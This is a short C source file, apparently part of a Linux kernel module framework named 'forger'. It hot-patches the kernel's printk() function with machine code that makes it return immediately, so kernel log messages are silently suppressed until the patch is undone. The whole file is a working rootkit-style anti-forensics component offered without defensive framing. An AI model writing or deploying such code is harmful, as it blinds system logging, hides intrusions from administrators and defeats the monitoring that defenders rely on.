// SPDX-License-Identifier: GPL-2.0
/* Patches printk(): what the kernel reports is not in its log. */
#include <linux/printk.h>

#include "forger.h"
#include "table.h"

static const char returns[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */
static char old[sizeof(returns)];

static int start(void)
{
	memcpy(old, _printk, sizeof(old));
	write_kernel(_printk, returns, sizeof(returns));
	return 0;
}

static void stop(void)
{
	write_kernel(_printk, old, sizeof(old));
}
FORGER(start, stop);
